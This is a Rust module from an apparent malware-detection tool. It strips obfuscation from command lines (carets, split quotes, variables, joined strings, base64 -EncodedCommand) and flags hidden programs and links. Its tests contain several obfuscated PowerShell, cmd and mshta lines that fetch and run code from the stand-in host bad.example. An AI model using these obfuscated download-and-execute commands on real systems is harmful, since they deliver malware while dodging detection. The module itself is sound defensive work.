//! A command line, as a shortcut, document or script holds it → what it runs, fetches and hides, with its disguise
//! taken off: carets and quotes inside words, variables, joined strings, `-EncodedCommand`.
//!
//! How to use it: [`examine`] adds to [`Evidence`] what a whole command line does; [`is_interpreter`] tells programs that
//! do what their arguments say from those that merely open something.

mod base64;
mod evidence;
mod programs;
mod unfold;
mod words;

pub(crate) use base64::readable;
pub(crate) use evidence::{Evidence, Weight};
pub(crate) use programs::{
    Distance, file_extension, file_stem, is_interpreter, is_remote, is_started, split_program,
};
pub(crate) use unfold::{Variables, plain};
pub(crate) use words::{telling, words};

use crate::limits::COMMAND_BYTES_MAX;
use crate::open::Budget;
use crate::{Cost, Unread};
use std::collections::VecDeque;

/// Texts decoded out of one command, one inside the other included.
const DECODED_MAX: usize = 16;

/// Adds what a command line does: its programs, telling words, links, and what is encoded in it.
///
/// Returns `TooLarge` where the budget did not reach to its end.
pub(crate) fn examine(line: &str, found: &mut Evidence, budget: &mut Budget) -> Result<(), Unread> {
    let mut waiting = VecDeque::from([line.to_owned()]);
    let mut variables = Variables::default();
    let mut taken = 0;
    let mut cut = false;
    while let Some(mut text) = waiting.pop_front() {
        if text.len() > PIECE_BYTES {
            let rest = text.split_off(piece_end(&text));
            waiting.push_front(rest);
        }
        budget.pay(Cost::Work(text.len() as u64)).map_err(|_| Unread::TooLarge)?;
        let plain = plain(&text, &mut variables);
        cut |= plain.len() > COMMAND_BYTES_MAX;
        budget.pay(Cost::Work(plain.len() as u64)).map_err(|_| Unread::TooLarge)?;
        found.show(&plain);
        found.links_of(&plain);
        programs::run(&plain, found);
        words(&plain, found);
        let open: Vec<&str> = telling(&text).collect();
        for word in telling(&plain).filter(|word| !open.contains(word)) {
            found.add(&format!("hidden: {word}"), Weight::Heavy);
        }
        for decoded in base64::hidden(&plain) {
            if taken < DECODED_MAX {
                taken += 1;
                waiting.push_back(decoded);
            }
        }
    }
    if cut { Err(Unread::TooLarge) } else { Ok(()) }
}

/// Bytes of a script that are taken at a time, whole lines of them. One command line has 32,767 characters at most.
const PIECE_BYTES: usize = 64 * 1024;

fn piece_end(text: &str) -> usize {
    let end = (0..=PIECE_BYTES).rev().find(|end| text.is_char_boundary(*end)).unwrap_or(text.len());
    let lines = text.get(..end).and_then(|piece| piece.rfind('\n')).map(|at| at + 1);
    lines.unwrap_or(end)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn examined(line: &str) -> Evidence {
        let mut found = Evidence::default();
        examine(line, &mut found, &mut Budget::default()).unwrap();
        found
    }

    #[test]
    fn disguises_come_off() {
        let wide: Vec<u8> = "IEX (New-Object Net.WebClient).DownloadString('http://bad.example/a')"
            .encode_utf16()
            .flat_map(u16::to_le_bytes)
            .collect();
        let encoded = base64::encode(&wide);
        for line in [
            "cmd.exe /c p^o^w^er^shell -w hidden iwr http://bad.example/a -OutFile a.exe".to_owned(),
            format!("powershell -nop -eNc {encoded}"),
            format!("powershell.exe /EncodedCommand {encoded}"),
            "%COMSPEC% /c \"set a=ms&& set b=hta&& call %a%%b% http://bad.example/a\"".to_owned(),
            "powershell \"$u='ht'+'tp://bad.example/a'; I`E`X (irm $u)\"".to_owned(),
            "c\"m\"d /v /c \"set x=m$hta http://bad.example/a&&!x:$=s!\"".to_owned(),
        ] {
            let found = examined(&line);
            assert_eq!(found.weight, Some(Weight::Heavy), "{line}: {found:?}");
            assert!(found.links.iter().any(|link| link == "http://bad.example/a"), "{line}: {found:?}");
        }
    }

    #[test]
    fn ordinary_commands_are_light() {
        for line in [
            "net use Z: \\\\server\\share /persistent:yes",
            "msiexec /i \\\\server\\apps\\viewer.msi /qn",
            "xcopy \\\\server\\templates C:\\Templates /s /y",
            "\"C:\\Program Files\\App\\app.exe\" --open report.pdf",
            "reg add HKCU\\Software\\Midori\\App /v Server /d main /f",
            "rundll32 printui.dll,PrintUIEntry /in /n \\\\server\\printer",
            "certutil -addstore Root company.cer",
            "",
        ] {
            assert!(examined(line).weight <= Some(Weight::Light), "{line}: {:?}", examined(line));
        }
    }

    #[test]
    fn whatever_stands_there_ends() {
        let mut line = "set a=%a%%a%x&& ".repeat(400);
        line.push_str("%a%!a:~0,9!^%a:x=yy%");
        let _ = examine(&line, &mut Evidence::default(), &mut Budget::default());
        for end in 0..line.len().min(200) {
            let _ = examined(&line[..end]);
        }
        let _ = examined(&"%".repeat(5000));
        let _ = examined(&"'+'".repeat(5000));
        let _ = examined("powershell -enc");
        let _ = examined("powershell -enc ////=");
    }
}
